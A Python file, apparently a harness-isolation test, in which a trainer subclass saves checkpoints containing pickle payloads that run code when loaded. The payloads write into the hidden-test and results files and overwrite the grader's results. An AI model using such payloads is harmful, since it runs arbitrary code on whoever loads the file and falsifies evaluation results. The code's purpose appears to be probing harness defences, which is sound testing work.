import os
import pickle
import sys

import torch
from attack import *

DO = f"""
import os
for path in {(targets.closed, targets.hidden_test, targets.results)!r}:
    try:
        open(path).read() and print("REACHED: {{path}} by a pickle", flush=True)
        open(path, "a").write("hostile")
    except OSError:
        pass
if os.getpid() == {targets.grader_pid}:
    open({targets.results!r}, "w").write("hostile")
    os._exit(0)
"""


class Payload:
    def __reduce__(self):
        return exec, (DO,)


class Told(ValueError):
    def __reduce__(self):
        return exec, (DO,)

    def __str__(self):
        return pickle.dumps(Payload()).decode("latin-1")


class LLMTrainer(LLMTrainer):
    def save(self, path):
        torch.save({"model": Payload(), "optimizer": Payload(), "epoch": Payload()}, path)
        with open(path, "ab") as stream:
            stream.write(pickle.dumps(Payload()))

    def load(self, path):
        torch.load(path, weights_only=False)
        raise Told
